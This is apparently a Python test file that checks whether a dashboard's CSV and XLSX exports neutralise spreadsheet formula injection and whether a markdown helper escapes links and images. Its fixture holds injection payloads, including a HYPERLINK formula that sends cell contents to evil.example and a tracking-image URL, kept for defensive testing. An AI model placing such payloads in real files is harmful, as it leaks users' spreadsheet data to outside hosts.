"""Downloads never carry a live formula, and data values never render as Markdown."""

from __future__ import annotations

import csv
import io
import zipfile

import pandas as pd
from streamlit.testing.v1 import AppTest

from dashboards.access.safe_text import md
from dashboards.app import components

HOSTILE = pd.DataFrame(
    {
        "payer_name": ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+1+1", "@SUM(1)", "Aetna"],
        "cpt_code": ["=9*99", "-2+3", "\tTAB", "99213"],
        "amount": [-12.5, 3.0, 0.0, 1.0],
    }
)


def test_xlsx_holds_text_not_formulas_or_links():
    book = zipfile.ZipFile(io.BytesIO(components.to_xlsx(HOSTILE, "payers")))
    sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    strings = book.read("xl/sharedStrings.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet  # no cell holds a formula
    assert "hyperlink" not in sheet.lower()
    assert "=HYPERLINK(" in strings and "=9*99" in strings  # kept as text
    assert "<v>-12.5</v>" in sheet  # numbers stay numbers


def test_csv_text_cells_cannot_start_a_formula():
    rows = list(csv.reader(io.StringIO(components.to_csv(HOSTILE).decode("utf-8"))))
    for row in rows[1:]:
        for cell in row[:2]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert rows[1][1] == "'=9*99" and rows[4][0] == "Aetna"
    assert rows[1][2] == "-12.5"  # a negative amount is a number, left alone


def test_md_leaves_no_markup(tmp_path):
    hostile = "![t](http://host.invalid/track.png) [x](https://e.invalid) www.e.invalid **b**"
    script = tmp_path / "page.py"
    script.write_text(
        "import streamlit as st\n"
        "from dashboards.access.safe_text import md\n"
        f"st.markdown('Location: ' + md({hostile!r}))\n"
    )
    at = AppTest.from_file(str(script)).run()
    (shown,) = at.markdown
    body = shown.value
    # Every character that could open an image, a link or emphasis is escaped.
    for opener in ("![", "](", "**", "http://", "www."):
        assert opener not in body, opener
    assert md("L02") == "L02" and md("PRV0001") == "PRV0001"
